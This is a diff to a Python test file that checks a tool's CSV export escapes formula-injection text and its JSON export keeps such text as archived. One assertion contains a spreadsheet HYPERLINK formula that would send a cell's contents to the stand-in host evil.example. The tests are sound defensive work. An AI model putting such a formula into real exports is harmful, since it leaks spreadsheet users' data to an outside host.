@@ -13,7 +13,7 @@ from jiwen.core.models import MoneyFact, PercentFact
 from jiwen.core.schema import FORMATS, schema_for
 from jiwen.library.export import CSV_COLUMNS, atomic_output, select_articles, write_export
 from jiwen.store import Archive
-from tests.conftest import schema_validator
+from tests.conftest import invoke_jiwen, schema_validator
 from tests.store.test_store import make_article, make_page
 
 REPO_ROOT = Path(__file__).resolve().parents[2]
@@ -162,18 +162,16 @@ FORMULA_PAGE = Path(__file__).resolve().parents[1] / "fixtures" / "hostile" / "f
 @pytest.fixture(scope="module")
 def formula_archive(tmp_path_factory) -> Path:
     """An archive holding one page whose title and sentences start with = - @ (formula injection)."""
-    from tests.conftest import run_jiwen
-
     archive = tmp_path_factory.mktemp("formula") / "archive"
-    result = run_jiwen("ingest", str(FORMULA_PAGE), "--archive", str(archive))
+    result = invoke_jiwen("ingest", str(FORMULA_PAGE), "--archive", str(archive))
     assert result.returncode == 0, result.stderr
     return archive
 
 
 @pytest.mark.parametrize("format_name", ["csv", "indicators-csv"])
-def test_csv_cells_that_would_start_a_formula_are_made_text(formula_archive, jiwen, tmp_path, format_name):
+def test_csv_cells_that_would_start_a_formula_are_made_text(formula_archive, tmp_path, format_name):
     output = tmp_path / "out.csv"
-    result = jiwen("export", "--format", format_name, "--archive", str(formula_archive), "-o", str(output))
+    result = invoke_jiwen("export", "--format", format_name, "--archive", str(formula_archive), "-o", str(output))
     assert result.returncode == 0, result.stderr
     rows = list(csv.DictReader(io.StringIO(output.read_text("utf-8"))))
     assert rows and all(row["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")' for row in rows)
@@ -184,8 +182,8 @@ def test_csv_cells_that_would_start_a_formula_are_made_text(formula_archive, jiw
 
 
 @pytest.mark.parametrize("format_name", ["jsonl", "indicators-jsonl"])
-def test_json_formats_keep_formula_like_text_as_archived(formula_archive, jiwen, format_name):
-    result = jiwen("export", "--format", format_name, "--archive", str(formula_archive))
+def test_json_formats_keep_formula_like_text_as_archived(formula_archive, format_name):
+    result = invoke_jiwen("export", "--format", format_name, "--archive", str(formula_archive))
     assert result.returncode == 0, result.stderr
     first = json.loads(result.stdout.splitlines()[0])
     assert first["title"].startswith("=HYPERLINK(")
